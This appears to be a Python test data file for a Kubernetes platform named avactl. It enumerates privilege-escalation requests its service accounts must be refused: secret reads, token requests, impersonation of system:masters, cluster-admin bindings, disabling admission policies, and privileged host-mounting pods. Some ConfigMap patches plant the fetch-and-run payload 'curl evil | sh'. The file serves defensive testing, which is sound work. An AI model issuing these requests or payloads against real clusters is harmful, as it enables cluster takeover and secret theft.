"""Requests by which an account of avactl could get more rights than its own, as data."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, NamedTuple

from tools.controlplane.build import KUBERNETES_MINOR

SYSTEM, CACHE, TEAM, NETWORK, PLATFORM = "avactl-system", "avactl-cache", "vision", "fabric", "monitoring"
RBAC, ADMISSION = "rbac.authorization.k8s.io/v1", "admissionregistration.k8s.io/v1"
ACCOUNTS = {
    "scheduler": (SYSTEM, "avactl-scheduler"),
    "serving": (SYSTEM, "avactl-serving"),
    "delivery": (SYSTEM, "avactl-delivery"),
    "topology": (SYSTEM, "avactl-topology"),
    "cache": (CACHE, "avactl-cache"),
    "run": (TEAM, "avactl-run"),
    "loader": (TEAM, "loader"),
    "follower": (TEAM, "ps-follower"),
    "default": (TEAM, "default"),
    # The last one: it takes rights from others in the namespaces of teams.
    "reconcile": (SYSTEM, "avactl-reconcile"),
}
MERGE, JSON = "application/merge-patch+json", "application/json"
POD_GROUPS = KUBERNETES_MINOR != "1.36"
"""True if the API server can serve the PodGroups that the scheduler reads."""
GATES = "--feature-gates=GenericWorkload=true"


class Attempt(NamedTuple):
    """One request that must be refused."""

    name: str
    method: str
    path: str
    body: dict[str, Any] | None = None
    content: str = JSON
    headers: tuple[tuple[str, str], ...] = ()


# -- attempts of every account


def path(version: str, plural: str, namespace: str = "", name: str = "") -> str:
    root = f"/apis/{version}" if "/" in version else f"/api/{version}"
    return root + (f"/namespaces/{namespace}" if namespace else "") + f"/{plural}" + (f"/{name}" if name else "")


def create(version: str, kind: str, plural: str, namespace: str = "", name: str = "evil", **fields: Any) -> Attempt:
    labels = {"app.kubernetes.io/managed-by": "avactl", **fields.pop("labels", {})}
    metadata = {"name": name, "labels": labels, **({"namespace": namespace} if namespace else {})}
    body = {"apiVersion": version, "kind": kind, "metadata": metadata, **fields}
    return Attempt(f"create {kind} {namespace}/{name}", "POST", path(version, plural, namespace), body)


def patch(version: str, plural: str, namespace: str, name: str, body: dict[str, Any], part: str = "") -> Attempt:
    where = path(version, plural, namespace, name) + part
    return Attempt(f"patch {plural}{part} {namespace}/{name} {str(body)[:60]}", "PATCH", where, body, MERGE)


def delete(version: str, plural: str, namespace: str, name: str) -> Attempt:
    return Attempt(f"delete {plural} {namespace}/{name}", "DELETE", path(version, plural, namespace, name))


def read(version: str, plural: str, namespace: str = "", name: str = "") -> Attempt:
    return Attempt(f"read {plural} {namespace}/{name}", "GET", path(version, plural, namespace, name))


SECURITY = {
    "allowPrivilegeEscalation": False,
    "capabilities": {"drop": ["ALL"]},
    "runAsNonRoot": True,
    "runAsUser": 1000,
    "seccompProfile": {"type": "RuntimeDefault"},
}


def pod(account: str = "default", *, privileged: bool = False, **more: Any) -> dict[str, Any]:
    security = {"privileged": True} if privileged else SECURITY
    container = {
        "name": "main",
        "image": "registry.example.com/evil:1",
        "securityContext": security,
        "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}],
    }
    host = {"hostPID": True, "volumes": [{"name": "host", "hostPath": {"path": "/"}}]} if privileged else {}
    return {
        "serviceAccountName": account,
        "schedulerName": "avactl",
        "restartPolicy": "Never",
        "containers": [container],
        **host,
        **more,
    }


def job(namespace: str, spec: dict[str, Any], name: str = "evil", **labels: str) -> Attempt:
    template = {"metadata": {"labels": labels}, "spec": spec}
    return create("batch/v1", "Job", "jobs", namespace, name, labels=labels, spec={"template": template})


def daemon_set(namespace: str, spec: dict[str, Any]) -> Attempt:
    labels = {"app": "evil"}
    template = {"metadata": {"labels": labels}, "spec": {**spec, "restartPolicy": "Always"}}
    body = {"selector": {"matchLabels": labels}, "template": template}
    return create("apps/v1", "DaemonSet", "daemonsets", namespace, spec=body)


EVERYTHING = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}


def binding(account: tuple[str, str], role: str, kind: str = "ClusterRole") -> dict[str, Any]:
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": role}
    return {
        "roleRef": reference,
        "subjects": [{"kind": "ServiceAccount", "namespace": account[0], "name": account[1]}],
    }


def policy_body(version: str = ADMISSION) -> dict[str, Any]:
    rule = {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}
    return {
        "spec": {
            "matchConstraints": {"resourceRules": [rule]},
            "validations": [{"expression": "false"}],
        }
    }


def common(account: tuple[str, str]) -> Iterator[Attempt]:
    """Yield what no account may do."""
    body: dict[str, Any]
    spec: dict[str, Any]
    # Secrets and tokens.
    for namespace in ("kube-system", "default", SYSTEM, CACHE, PLATFORM):
        yield read("v1", "secrets", namespace)
        yield read("v1", "secrets", namespace, "key")
        yield create("v1", "Secret", "secrets", namespace)
    yield read("v1", "secrets")
    for namespace, name in (
        ("kube-system", "clusterrole-aggregation-controller"),
        ("kube-system", "generic-garbage-collector"),
        (PLATFORM, "operator"),
        *(each for each in ACCOUNTS.values() if each[0] != TEAM),
    ):
        request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        where = path("v1", "serviceaccounts", namespace, name) + "/token"
        yield Attempt(f"token of {namespace}/{name}", "POST", where, request)
    for user, groups in (
        ("admin", ("system:masters",)),
        ("system:kube-controller-manager", ()),
        ("system:serviceaccount:kube-system:generic-garbage-collector", ()),
        (
            f"system:serviceaccount:{SYSTEM}:{'avactl-scheduler' if 'reconcile' in account[1] else 'avactl-reconcile'}",
            (),
        ),
    ):
        headers = (("Impersonate-User", user), *(("Impersonate-Group", group) for group in groups))
        yield Attempt(f"impersonate {user}", "GET", "/api/v1/namespaces/kube-system/secrets", headers=headers)
    request = {"request": "bm9uZQ==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}
    yield create("certificates.k8s.io/v1", "CertificateSigningRequest", "certificatesigningrequests", spec=request)
    # Rights.
    for name in ("evil", *(each[1] for each in ACCOUNTS.values() if each[0] in (SYSTEM, CACHE))):
        yield patch(RBAC, "clusterroles", "", name, {"rules": [EVERYTHING]})
        own = {"subjects": binding(account, "")["subjects"]}
        yield patch(RBAC, "clusterrolebindings", "", name, own)
    yield create(RBAC, "ClusterRole", "clusterroles", rules=[EVERYTHING])
    yield patch(RBAC, "clusterroles", "", "cluster-admin", {"metadata": {"labels": {"a": "b"}}})
    yield patch(RBAC, "clusterroles", "", "view", {"rules": [EVERYTHING]})
    for role in ("cluster-admin", "system:node", "avactl-scheduler", "avactl-reconcile", "view"):
        yield create(RBAC, "ClusterRoleBinding", "clusterrolebindings", **binding(account, role))
        yield create(RBAC, "RoleBinding", "rolebindings", "kube-system", **binding(account, role))
    for namespace in ("kube-system", "default", SYSTEM, CACHE, PLATFORM):
        for name in ("evil", "avactl-topology", "pipeline-state.vision.evil", "promotion-state.vision.evil"):
            yield create(RBAC, "Role", "roles", namespace, name, rules=[EVERYTHING])
            yield create(RBAC, "RoleBinding", "rolebindings", namespace, name, **binding(account, name, "Role"))
    for name in (account[1], "avactl-scheduler"):
        yield patch(RBAC, "roles", SYSTEM, name, {"rules": [EVERYTHING]})
    # Admission.
    for name in ("avactl-reconcile", "avactl-scheduler", "avactl-topology", "avactl-team-pods", "avactl-namespaces"):
        for plural in ("validatingadmissionpolicies", "validatingadmissionpolicybindings"):
            yield delete(ADMISSION, plural, "", name)
        yield patch(ADMISSION, "validatingadmissionpolicies", "", name, {"spec": {"failurePolicy": "Ignore"}})
        yield patch(
            ADMISSION, "validatingadmissionpolicybindings", "", name, {"spec": {"validationActions": ["Audit"]}}
        )
    yield create(ADMISSION, "ValidatingAdmissionPolicy", "validatingadmissionpolicies", **policy_body())
    spec = {"policyName": "avactl-namespaces", "validationActions": ["Deny"]}
    yield create(ADMISSION, "ValidatingAdmissionPolicyBinding", "validatingadmissionpolicybindings", spec=spec)
    for kind in ("Validating", "Mutating"):
        plural = f"{kind.lower()}webhookconfigurations"
        yield create(ADMISSION, f"{kind}WebhookConfiguration", plural, webhooks=[])
    yield create(ADMISSION, "MutatingAdmissionPolicy", "mutatingadmissionpolicies", **policy_body())
    spec = {"group": "evil.example", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1}
    yield create("apiregistration.k8s.io/v1", "APIService", "apiservices", name="v1.evil.example", spec=spec)
    yield patch("apiextensions.k8s.io/v1", "customresourcedefinitions", "", "httproutes.gateway.networking.k8s.io", {})
    # Pods and machines.
    for namespace in ("kube-system", "default", PLATFORM, CACHE, SYSTEM):
        template = {"metadata": {"name": "evil", "namespace": namespace}, "spec": pod(privileged=True)}
        yield create("v1", "Pod", "pods", namespace, spec=template["spec"])
        yield job(namespace, pod(privileged=True))
        yield daemon_set(namespace, pod(privileged=True))
    for namespace, name in (
        ("kube-system", "clusterrole-aggregation-controller"),
        (PLATFORM, "operator"),
        (SYSTEM, "avactl-scheduler"),
        (SYSTEM, "avactl-delivery"),
        (CACHE, "avactl-cache"),
    ):
        yield job(namespace, pod(name))
    for part in ("exec", "attach", "portforward", "proxy"):
        where = path("v1", "pods", "kube-system", "victim") + f"/{part}"
        yield Attempt(f"{part} of a pod", "GET" if part == "proxy" else "POST", where)
    yield patch("v1", "pods", "kube-system", "victim", {"spec": {"ephemeralContainers": []}}, "/ephemeralcontainers")
    yield delete("v1", "pods", "kube-system", "victim")
    yield patch("v1", "pods", "kube-system", "victim", {"metadata": {"labels": {"app": "evil"}}})
    yield patch("v1", "pods", "kube-system", "victim", {"status": {"podIP": "10.0.0.66"}}, "/status")
    yield Attempt(
        "evict a pod",
        "POST",
        path("v1", "pods", "kube-system", "victim") + "/eviction",
        {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "victim"}},
    )
    target = {"kind": "Node", "name": "machine"}
    body = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "victim"}, "target": target}
    yield Attempt("bind a pod", "POST", path("v1", "pods", "kube-system", "victim") + "/binding", body)
    yield Attempt("proxy to a kubelet", "GET", "/api/v1/nodes/machine/proxy/pods")
    yield delete("v1", "nodes", "", "machine")
    yield patch("v1", "nodes", "", "machine", {"spec": {"unschedulable": True}})
    yield patch("v1", "nodes", "", "machine", {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}})
    yield patch("v1", "nodes", "", "machine", {"metadata": {"annotations": {"cni.example/public-ip": "10.0.0.66"}}})
    yield patch("v1", "nodes", "", "machine", {"spec": {"taints": None}})
    owner = {"apiVersion": "v1", "kind": "Node", "name": "none", "uid": "0"}
    yield patch("v1", "nodes", "", "machine", {"metadata": {"ownerReferences": [owner]}})
    yield patch("v1", "nodes", "", "machine", {"status": {"capacity": {"cpu": "1"}}}, "/status")
    # Objects of others.
    for name in ("kube-system", "default", SYSTEM, CACHE, PLATFORM):
        yield delete("v1", "namespaces", "", name)
        level = {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged", "avactl.dev/team": "x"}}}
        yield patch("v1", "namespaces", "", name, level)
    # Devices in use: Kubernetes asks for nothing but this label.
    admin_access = {"resource.kubernetes.io/admin-access": "true"}
    for name in (TEAM, NETWORK, "kube-system", "default", SYSTEM, CACHE, PLATFORM):
        for part in ("", "/status"):
            yield patch("v1", "namespaces", "", name, {"metadata": {"labels": admin_access}}, part)
    labels = {"avactl.dev/team": "x", "pod-security.kubernetes.io/enforce": "restricted", **admin_access}
    yield create("v1", "Namespace", "namespaces", name="devices", labels=labels)
    for name in ("argocd", "kube-evil", "evil-system"):
        labels = {"avactl.dev/team": "x", "pod-security.kubernetes.io/enforce": "restricted"}
        yield create("v1", "Namespace", "namespaces", name=name, labels=labels)
    labels = {"avactl.dev/team": "x", "pod-security.kubernetes.io/enforce": "privileged"}
    yield create("v1", "Namespace", "namespaces", labels=labels)
    yield create("v1", "Namespace", "namespaces", labels={"avactl.dev/team": "x"})
    yield create("v1", "Namespace", "namespaces", labels={"pod-security.kubernetes.io/enforce": "restricted"})
    yield delete("v1", "services", "default", "kubernetes")
    yield patch("v1", "services", "kube-system", "dns", {"spec": {"selector": {"app": "evil"}}})
    yield patch("v1", "configmaps", "kube-system", "extension-apiserver-authentication", {"data": {"a": "b"}})
    for name in ("evil", "foreign"):
        yield create("v1", "ConfigMap", "configmaps", "kube-system", name)
    yield delete("apps/v1", "deployments", "kube-system", "dns")
    yield patch("apps/v1", "deployments", "kube-system", "dns", {"spec": {"replicas": 0}})
    yield delete("coordination.k8s.io/v1", "leases", "kube-system", "kube-controller-manager")
    yield create("discovery.k8s.io/v1", "EndpointSlice", "endpointslices", "default", addressType="IPv4", endpoints=[])
    volume = {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"], "storageClassName": ""}
    for source in (
        {"hostPath": {"path": "/"}},
        {"hostPath": {"path": "/mnt/avactl/.volumes/other/x", "type": "Directory"}},
        {
            "local": {"path": "/etc"},
            "nodeAffinity": {
                "required": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "a", "operator": "Exists"}]}]}
            },
        },
        {
            "csi": {
                "driver": "csi.juicefs.com",
                "volumeHandle": "evil",
                "volumeAttributes": {"juicefs/mount-image": "registry.example.com/evil:1"},
            }
        },
        {
            "csi": {
                "driver": "x",
                "volumeHandle": "evil",
                "nodePublishSecretRef": {"name": "key", "namespace": "kube-system"},
            }
        },
        {"nfs": {"server": "10.0.0.66", "path": "/"}},
    ):
        yield create("v1", "PersistentVolume", "persistentvolumes", spec={**volume, **source})
    yield patch("v1", "persistentvolumes", "", "foreign", {"spec": {"persistentVolumeReclaimPolicy": "Delete"}})
    yield patch("v1", "persistentvolumes", "", "foreign", {"spec": {"mountOptions": ["exec"]}})
    yield delete("v1", "persistentvolumes", "", "foreign")
    yield create("scheduling.k8s.io/v1", "PriorityClass", "priorityclasses", value=1000000, globalDefault=True)
    yield create("storage.k8s.io/v1", "StorageClass", "storageclasses", provisioner="csi.juicefs.com")
    yield patch("storage.k8s.io/v1", "storageclasses", "", "foreign", {"allowVolumeExpansion": True})
    spec = {"type": "ClusterIP", "externalIPs": ["10.96.0.1"], "ports": [{"port": 443}]}
    yield create("v1", "Service", "services", SYSTEM, spec=spec)


# -- attempts that a Role allows


def own_attempts(name: str) -> Iterator[Attempt]:
    """Yield what the Roles of an account allow, and its admission policy refuses."""
    body: dict[str, Any]
    spec: dict[str, Any]
    template: dict[str, Any]
    match name:
        case "reconcile":
            template = {"template": {"spec": {"serviceAccountName": "avactl-scheduler"}}}
            yield patch("apps/v1", "deployments", SYSTEM, "avactl-serving", {"spec": template})
            for image in ("scheduler", "delivery", "reconcile"):
                containers = [{"name": image, "image": "registry.example.com/evil:1"}]
                where = path("apps/v1", "deployments", SYSTEM, f"avactl-{image}")
                body = {"spec": {"template": {"spec": {"containers": containers}}}}
                content = "application/strategic-merge-patch+json"
                yield Attempt(f"another image of {image}", "PATCH", where, body, content)
            secret = [{"name": "git", "secret": {"secretName": "specs"}}]
            yield job(SYSTEM, pod(volumes=secret, automountServiceAccountToken=False))
            yield job(SYSTEM, pod())
            yield job(SYSTEM, pod("avactl-topology", volumes=secret))
            yield job(PLATFORM, pod(automountServiceAccountToken=False, hostNetwork=True))
            yield job(CACHE, pod("avactl-topology"))
            token = [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]
            yield job(PLATFORM, pod(automountServiceAccountToken=False, volumes=token))
            environment = {"name": "T", "valueFrom": {"secretKeyRef": {"name": "specs", "key": "password"}}}
            spec = pod(automountServiceAccountToken=False)
            spec["containers"][0]["env"].append(environment)
            yield job(SYSTEM, spec)
            for key in ("fuse.sh", "volumes.sh", "alluxio-site.properties", "evil.sh"):
                yield patch("v1", "configmaps", CACHE, "write-alluxio", {"data": {key: "curl evil | sh"}})
            yield create("v1", "ConfigMap", "configmaps", CACHE, data={"fuse.sh": "curl evil | sh"})
            yield patch(
                "v1",
                "namespaces",
                "",
                TEAM,
                {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
            )
            yield patch(
                "v1", "namespaces", "", TEAM, {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}}
            )
            yield patch("v1", "namespaces", "", NETWORK, {"metadata": {"labels": {"avactl.dev/team": None}}})
            yield patch("v1", "namespaces", "", NETWORK, {"metadata": {"labels": {"avactl.dev/host-network": None}}})
            yield patch("v1", "nodes", "", "machine", {"metadata": {"finalizers": ["evil.example/x"]}})
            roles = {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": None}}}
            yield patch("v1", "nodes", "", "control", roles)
            yield patch("v1", "nodes", "", "control", {"spec": {"taints": []}})
            labels = {"app": "evil"}
            template = {"metadata": {"labels": labels}, "spec": {**pod("operator"), "restartPolicy": "Always"}}
            spec = {"selector": {"matchLabels": labels}, "template": template}
            yield create("apps/v1", "Deployment", "deployments", PLATFORM, spec=spec)
            yield create("apps/v1", "StatefulSet", "statefulsets", PLATFORM, spec=spec)
            cron = {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": pod("operator")}}}}
            yield create("batch/v1", "CronJob", "cronjobs", PLATFORM, spec=cron)
            yield job(PLATFORM, pod("operator"))
            yield patch("v1", "serviceaccounts", "default", "default", {"metadata": {"labels": {"a": "b"}}})
            volume = {"spec": {"claimRef": {"namespace": TEAM, "name": "x"}}}
            yield patch("v1", "persistentvolumes", "", "foreign", volume)
        case "scheduler":
            volume = {
                "spec": {
                    "claimRef": {
                        "apiVersion": "v1",
                        "kind": "PersistentVolumeClaim",
                        "namespace": TEAM,
                        "name": "x",
                        "uid": "1",
                    }
                }
            }
            yield patch("v1", "persistentvolumes", "", "bound", volume)
            yield patch("v1", "persistentvolumes", "", "meant", volume)
            yield patch("v1", "persistentvolumes", "", "bound", {"spec": {"claimRef": None}})
            for spec in (
                {"accessModes": ["ReadWriteMany"]},
                {"storageClassName": "x"},
                {"capacity": {"storage": "9Gi"}},
                {"persistentVolumeReclaimPolicy": "Delete"},
                {"mountOptions": ["exec"]},
            ):
                yield patch("v1", "persistentvolumes", "", "foreign", {"spec": spec})
            yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"finalizers": None}})
            yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"labels": {"a": "b"}}})
            yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"annotations": {"a": "b"}}})
            yield delete("v1", "pods", "default", "victim")
            for status in (
                {"phase": "Failed"},
                {"podIP": "10.0.0.66"},
                {"hostIP": "10.0.0.66"},
                {"conditions": [{"type": "Ready", "status": "True"}]},
                {
                    "containerStatuses": [
                        {"name": "main", "ready": True, "restartCount": 0, "image": "a", "imageID": "a"}
                    ]
                },
                {"reason": "x"},
            ):
                yield patch("v1", "pods", TEAM, "own", {"status": status}, "/status")
            yield patch("v1", "pods", TEAM, "own", {"metadata": {"labels": {"app": "evil"}}}, "/status")
            yield patch("v1", "pods", TEAM, "own", {"metadata": {"annotations": {"a": "b"}}}, "/status")
            yield patch("v1", "pods", TEAM, "own", {"metadata": {"finalizers": ["evil.example/x"]}}, "/status")
            for more in ({"annotations": {"a": "b"}}, {"labels": {"app": "evil"}}):
                body = {
                    "apiVersion": "v1",
                    "kind": "Binding",
                    "metadata": {"name": "own", **more},
                    "target": {"kind": "Node", "name": "machine"},
                }
                yield Attempt(f"bind with {more}", "POST", path("v1", "pods", TEAM, "own") + "/binding", body)
            claim = ("v1", "persistentvolumeclaims", TEAM, "home")
            yield patch(*claim, {"spec": {"volumeName": "foreign"}})
            yield patch(*claim, {"metadata": {"annotations": {"a": "b"}}})
            yield patch(*claim, {"metadata": {"finalizers": None}})
            claim = ("resource.k8s.io/v1", "resourceclaims", TEAM, "gpu")
            yield patch(*claim, {"metadata": {"finalizers": None}})
            yield patch(*claim, {"metadata": {"labels": {"a": "b"}}})
            yield delete(*claim)
            extended = {"metadata": {"annotations": {"resource.kubernetes.io/extended-resource-claim": "true"}}}
            owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "x", "uid": "x", "controller": True}
            devices = {"requests": [{"name": "gpu", "exactly": {"deviceClassName": "gpu"}}]}
            for metadata in (
                {},
                extended["metadata"],
                {**extended["metadata"], "ownerReferences": [owner]},
                {"ownerReferences": [{**owner, "apiVersion": "v1", "kind": "Pod"}]},
            ):
                made = create("resource.k8s.io/v1", "ResourceClaim", "resourceclaims", TEAM, spec={"devices": devices})
                assert made.body is not None
                yield made._replace(body={**made.body, "metadata": {**made.body["metadata"], **metadata}})
            if POD_GROUPS:
                group = ("scheduling.k8s.io/v1beta1", "podgroups", TEAM, "ranks")
                yield patch(*group, {"spec": {"schedulingPolicy": {"gang": {"minCount": 1}}}})
                for kind in ("DisruptionTarget", "Ready"):
                    condition = {"type": kind, "status": "True", "reason": "A", "message": ""}
                    condition["lastTransitionTime"] = "2026-01-01T00:00:00Z"
                    yield patch(*group, {"status": {"conditions": [condition]}}, "/status")
        case "serving":
            yield job(TEAM, pod("ps-follower"))
            yield job(TEAM, pod("platform"))
            yield job(NETWORK, pod("avactl-run", privileged=True))
            labels = {"app": "evil"}
            for account in ("platform", "ps-follower"):
                spec = {
                    "selector": {"matchLabels": labels},
                    "template": {"metadata": {"labels": labels}, "spec": {**pod(account), "restartPolicy": "Always"}},
                }
                yield create("apps/v1", "ReplicaSet", "replicasets", TEAM, spec=spec)
            deployment = ("apps/v1", "deployments", TEAM, "detect")
            yield patch(*deployment, {"spec": {"template": {"spec": {"serviceAccountName": "platform"}}}})
            yield patch(*deployment, {"spec": {"replicas": 0}})
            yield patch(*deployment, {"metadata": {"annotations": {"avactl.dev/rollout": "{}"}}})
            yield patch(*deployment, {"metadata": {"labels": {"a": "b"}}})
            yield patch(*deployment, {"status": {"replicas": 5}}, "/status")
            conditions = [{"type": "Available", "status": "True"}]
            yield patch(*deployment, {"status": {"conditions": conditions}}, "/status")
            pool = ("inference.networking.k8s.io/v1", "inferencepools", TEAM, "pool")
            yield patch(*pool, {"spec": {"selector": {"matchLabels": {"a": "b"}}}})
            yield patch(*pool, {"spec": {"endpointPickerRef": {"name": "detect"}}})
            yield patch(*pool, {"spec": {"targetPorts": [{"number": 22}]}})
            yield patch(*pool, {"metadata": {"labels": {"a": "b"}}})
            yield delete("v1", "services", TEAM, "detect")
            yield patch("v1", "services", TEAM, "detect", {"spec": {"type": "NodePort"}})
            yield patch("v1", "services", TEAM, "detect", {"spec": {"externalIPs": ["10.96.0.1"]}})
            yield patch("v1", "services", TEAM, "detect", {"metadata": {"annotations": {"a": "b"}}})
            for spec in (
                {"type": "NodePort"},
                {"type": "LoadBalancer"},
                {"externalIPs": ["10.96.0.1"]},
                {"type": "ExternalName", "externalName": "evil.example"},
            ):
                yield create("v1", "Service", "services", TEAM, spec={"ports": [{"port": 80}], **spec})
            yield delete("batch/v1", "jobs", TEAM, "ps-worker")
            yield delete("v1", "pods", TEAM, "own")
            yield delete("v1", "pods", CACHE, "worker")
            groups = ("leaderworkerset.x-k8s.io/v1", "leaderworkersets", TEAM, "groups")
            evil = {"size": 2, "workerTemplate": {"spec": pod("platform")}}
            yield patch(*groups, {"spec": {"leaderWorkerTemplate": evil}})
            yield patch(*groups, {"spec": {"replicas": 100}})
            yield patch(*groups, {"spec": {"rolloutStrategy": {"rollingUpdateConfiguration": {"maxUnavailable": 9}}}})
            yield patch(*groups, {"metadata": {"annotations": {"avactl.dev/rollout": "{}"}}})
            yield patch(*groups, {"metadata": {"labels": {"a": "b"}}})
            yield patch(*groups, {"status": {"replicas": 5}}, "/status")
            whole = {"type": "Available", "status": "True", "reason": "A", "message": ""}
            whole["lastTransitionTime"] = "2026-01-31T09:30:00Z"
            yield patch(*groups, {"status": {"conditions": [whole]}}, "/status")
            yield delete(*groups)
            route = ("gateway.networking.k8s.io/v1", "httproutes", TEAM, "web")
            yield patch(*route, {"spec": {"hostnames": ["bank.example.com"]}})
            yield patch(*route, {"spec": {"parentRefs": [{"name": "other"}]}})
            yield patch(*route, {"metadata": {"annotations": {"a": "b"}}})
            for namespace in (SYSTEM, CACHE, PLATFORM, "default", "kube-system"):
                yield job(namespace, pod())
                yield create("v1", "Service", "services", namespace, spec={"ports": [{"port": 80}]})
        case "cache":
            owner = {"apiVersion": "v1", "kind": "Node", "name": "none", "uid": "0"}
            for body in (
                {"spec": {"containers": [{"name": "main", "image": "registry.example.com/evil:1"}]}},
                {"spec": {"activeDeadlineSeconds": 1}},
                {"metadata": {"labels": {"app": "evil"}}},
                {"metadata": {"annotations": {"a": "b"}}},
                {"metadata": {"finalizers": ["evil.example/x"]}},
                {"metadata": {"ownerReferences": [owner]}},
            ):
                where = path("v1", "pods", CACHE, "worker")
                content = "application/strategic-merge-patch+json"
                yield Attempt(f"patch a worker {body}", "PATCH", where, body, content)
            yield create("v1", "ConfigMap", "configmaps", CACHE, data={"fuse.sh": "curl evil | sh"})
            yield patch("v1", "configmaps", CACHE, "write-alluxio", {"data": {"fuse.sh": "curl evil | sh"}})
            yield create("v1", "ConfigMap", "configmaps", CACHE, "tier.evil", data={"tier.json": "{}"})
        case "delivery":
            for name in ("avactl-policy", "promotion.vision.detect", "health-report.vision.detect.source"):
                yield patch("v1", "configmaps", SYSTEM, name, {"data": {"a": "b"}})
            yield job(TEAM, pod("avactl-run"))
            yield create("v1", "ConfigMap", "configmaps", SYSTEM)
            # It records the health of services, and changes them in git only.
            yield patch("apps/v1", "deployments", TEAM, "detect", {"metadata": {"annotations": {"a": "b"}}})
        case "topology":
            conditions = [{"type": "Ready", "status": "False"}]
            yield patch("v1", "nodes", "", "machine", {"status": {"conditions": conditions}}, "/status")
            own = [{"type": "avactl.dev/TopologyMatches", "status": "True"}]
            yield patch("v1", "nodes", "", "machine", {"status": {"conditions": own}}, "/status")
        case "follower":
            yield patch("batch/v1", "jobs", TEAM, "other", {"spec": {"suspend": True}})
            yield create("v1", "Pod", "pods", TEAM, spec=pod("avactl-run"))
            yield read("v1", "secrets", TEAM)
        case _:
            for plural in ("pods", "configmaps", "services", "secrets", "events"):
                yield read("v1", plural, TEAM)
            yield create("v1", "Pod", "pods", TEAM, spec=pod("avactl-run"))


# -- the rights that an account has to widen itself


def widen(account: tuple[str, str]) -> Iterator[Attempt]:
    """Yield every request that could give an account more rights. Some may succeed, in namespaces of teams."""
    for namespace in (TEAM, NETWORK, SYSTEM, CACHE, PLATFORM, "default", "kube-system"):
        yield create(RBAC, "Role", "roles", namespace, "widened", rules=[EVERYTHING])
        yield create(RBAC, "RoleBinding", "rolebindings", namespace, "widened", **binding(account, "widened", "Role"))
        yield create(RBAC, "RoleBinding", "rolebindings", namespace, "admin", **binding(account, "cluster-admin"))
        yield create("v1", "ServiceAccount", "serviceaccounts", namespace, "widened")
        yield job(namespace, pod(automountServiceAccountToken=False), account[1])
    for name in ("avactl-scheduler", "avactl-topology", "avactl-cache", "avactl-serving", "avactl-reconcile"):
        yield patch(RBAC, "clusterroles", "", name, {"rules": [EVERYTHING]})
        yield patch(RBAC, "roles", SYSTEM, name, {"rules": [EVERYTHING]})
        yield create(RBAC, "ClusterRoleBinding", "clusterrolebindings", name=f"{name}-2", **binding(account, name))
    for namespace in (TEAM, NETWORK):
        for role in ("avactl-member", "avactl-serving", "ps-follower"):
            yield patch(RBAC, "roles", namespace, role, {"rules": [EVERYTHING]})
            yield patch(RBAC, "rolebindings", namespace, role, {"subjects": binding(account, "")["subjects"]})
    labels = {"avactl.dev/team": "new", "pod-security.kubernetes.io/enforce": "baseline"}
    yield create("v1", "Namespace", "namespaces", name="widened", labels=labels)
    yield create(RBAC, "Role", "roles", "widened", "widened", rules=[EVERYTHING])
    yield create(RBAC, "RoleBinding", "rolebindings", "widened", "widened", **binding(account, "widened", "Role"))
    handed = {"metadata": {"labels": {"app.kubernetes.io/managed-by": "avactl", "avactl.dev/team": "new"}}}
    for namespace in ("default", "kube-system", PLATFORM, SYSTEM):
        yield patch("v1", "namespaces", "", namespace, handed)
